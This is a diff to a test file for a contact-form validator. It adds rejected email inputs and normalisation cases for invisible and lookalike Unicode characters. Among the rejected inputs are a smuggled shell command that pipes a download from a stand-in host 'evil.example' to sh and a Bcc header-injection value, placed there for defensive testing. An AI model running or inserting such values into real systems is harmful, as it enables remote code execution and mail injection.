@@ -56,13 +56,47 @@ describe('a message', () => {
       'a@b.co\r\nBcc: x@y.z',
       '<a@b.co>',
       'a@-b.co',
+      'ada@my”farm.example',
+      'ada…@visitor.example',
+      'a\u{e0041}@b.co',
+      'a@\u0301b.example',
+      '=?utf-8?q?a?=@b.co',
+      '`curl$' + '{IFS}evil.example|sh`@visitor.example',
+      ...[...'`$|&{}'].map((sign) => `a${sign}b@b.co`),
     ]) {
-      assert.deepEqual(Object.keys(errorsOf({ email })), ['email'], email);
+      assert.deepEqual(
+        errorsOf({ email }),
+        { email: 'Enter an email address in the form name@example.com' },
+        email,
+      );
+    }
+  });
+
+  it('is mended where only one reading is possible, and taken without signs that nobody can see', () => {
+    const mended: readonly (readonly [FieldName, typed: string, kept: string])[] = [
+      ['email', 'ada@visitor.example”', 'ada@visitor.example'],
+      ['email', '“ada@visitor.example"', 'ada@visitor.example'],
+      ['email', "'ada@visitor.example'", 'ada@visitor.example'],
+      ['email', '\u202aada@visitor.example\u202c\u200b', 'ada@visitor.example'],
+      ['email', 'o’brien@visitor.example', "o'brien@visitor.example"],
+      ['email', 'ada@my–farm.example', 'ada@my-farm.example'],
+      ['email', 'oﬃce＠visitor。example', 'office@visitor.example'],
+      ['phone', '\u200e0803 000 0000', '0803 000 0000'],
+      ['phone', '\u202a+234\u2060803\u00ad000\ufe0d0000\u202c', '+2348030000000'],
+      ['phone', '0803\u2010000\u20150000', '0803-000-0000'],
+      ['phone', '０８０３\t０００\u00a0００００', '0803 000 0000'],
+      ['firstName', 'Ada\tObi', 'Ada Obi'],
+      ['subject', '\u2068Ada\u2069', 'Ada'],
+      ['message', '@\u2068Ada\u2069 asked\vTwo\fThree\u2028Four', '@Ada asked\nTwo\nThree\nFour'],
+    ];
+    for (const [name, typed, kept] of mended) {
+      const checked = checkMessage({ ...good, [name]: typed });
+      assert.equal(checked.ok ? checked.message[name] : checked.errors[name], kept);
     }
   });
 
   it('refuses line breaks and control characters in one-line fields', () => {
-    for (const sign of ['\n', '\r', '\0', '\u001b', '\u2028', '\u202e', '\ud800']) {
+    for (const sign of ['\n', '\r', '\0', '\u001b', '\u2028', '\ud800']) {
       assert.deepEqual(Object.keys(errorsOf({ subject: `a${sign}b` })), ['subject'], JSON.stringify(sign));
     }
     assert.deepEqual(errorsOf({ message: 'one\n\ttwo <script>alert(1)</script>' }), {});
